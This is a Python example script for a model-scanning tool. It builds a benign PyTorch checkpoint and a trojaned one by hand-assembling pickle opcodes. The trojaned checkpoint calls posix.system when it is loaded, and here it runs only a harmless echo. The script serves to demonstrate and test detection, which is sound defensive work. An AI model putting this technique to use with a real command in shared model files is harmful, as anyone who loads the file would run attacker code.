#!/usr/bin/env python3
"""Write the bundled example models: one ordinary PyTorch checkpoint and one trojaned copy.

    python examples/generate.py            # -> examples/generated/{benign,malicious}/pytorch_model.bin
    modelscan scan examples/generated      # the malicious one is caught, the benign one is clean

No binary is committed to the repository: the checkpoints are built here from opcodes, with the
standard library only (torch is not needed), in exactly the layout ``torch.save`` writes (a zip
with ``archive/data.pkl``, ``archive/data/0``, ``archive/version``, ``archive/byteorder``).
``torch.load(..., weights_only=False)`` reads both as a state dict ``{"weight": tensor}``.

The malicious checkpoint's payload is harmless: loading it runs ``echo`` (prints one line).
The technique is the real one, though: a ``REDUCE`` of ``posix.system`` placed before the state
dict, so the model still loads normally after the command has run.
"""

from __future__ import annotations

import argparse
import struct
import sys
import zipfile
from pathlib import Path

PAYLOAD = "echo 'modelscan demo: this line was printed by LOADING malicious/pytorch_model.bin'"
WEIGHTS = (0.5, -1.25, 2.0, 3.75)


def _global(module: str, name: str) -> bytes:
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def _str(text: str) -> bytes:
    raw = text.encode("utf-8")
    return b"X" + struct.pack("<I", len(raw)) + raw


def _int(value: int) -> bytes:
    return b"K" + bytes([value]) if 0 <= value < 256 else b"J" + struct.pack("<i", value)


def _tuple(*items: bytes) -> bytes:
    return b"(" + b"".join(items) + b"t"


def state_dict_pickle(numel: int, payload: str | None = None) -> bytes:
    """Protocol-2 opcodes of ``OrderedDict(weight=<float32 tensor of numel>)`` as torch writes it;
    with ``payload``, a ``posix.system(payload)`` call runs first and its result is discarded."""
    out = b"\x80\x02"
    if payload is not None:
        out += _global("posix", "system") + _str(payload) + b"\x85" + b"R" + b"0"  # TUPLE1 REDUCE POP
    out += _global("collections", "OrderedDict") + b")R"
    storage = _tuple(_str("storage"), _global("torch", "FloatStorage"), _str("0"), _str("cpu"), _int(numel))
    tensor = (
        _global("torch._utils", "_rebuild_tensor_v2")
        + b"("
        + storage
        + b"Q"  # BINPERSID: the storage record archive/data/0
        + _int(0)  # storage offset
        + _tuple(_int(numel))  # size
        + _tuple(_int(1))  # stride
        + b"\x89"  # requires_grad=False
        + _global("collections", "OrderedDict")
        + b")R"  # backward hooks
        + b"tR"
    )
    return out + b"(" + _str("weight") + tensor + b"u" + b"."


def write_checkpoint(path: Path, payload: str | None = None) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    weights = struct.pack(f"<{len(WEIGHTS)}f", *WEIGHTS)
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_STORED) as zf:
        zf.writestr("archive/data.pkl", state_dict_pickle(len(WEIGHTS), payload))
        zf.writestr("archive/byteorder", "little")
        zf.writestr("archive/data/0", weights)
        zf.writestr("archive/version", "3\n")
    return path


def generate(out: Path) -> list[Path]:
    """Write both examples under ``out`` and return their paths."""
    return [
        write_checkpoint(out / "benign" / "pytorch_model.bin"),
        write_checkpoint(out / "malicious" / "pytorch_model.bin", payload=PAYLOAD),
    ]


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0] if __doc__ else None)
    parser.add_argument(
        "--out",
        type=Path,
        default=Path(__file__).resolve().parent / "generated",
        help="folder to write into (default: examples/generated)",
    )
    args = parser.parse_args(argv)
    for path in generate(args.out):
        print(f"wrote {path}", file=sys.stderr)
    return 0


if __name__ == "__main__":
    sys.exit(main())
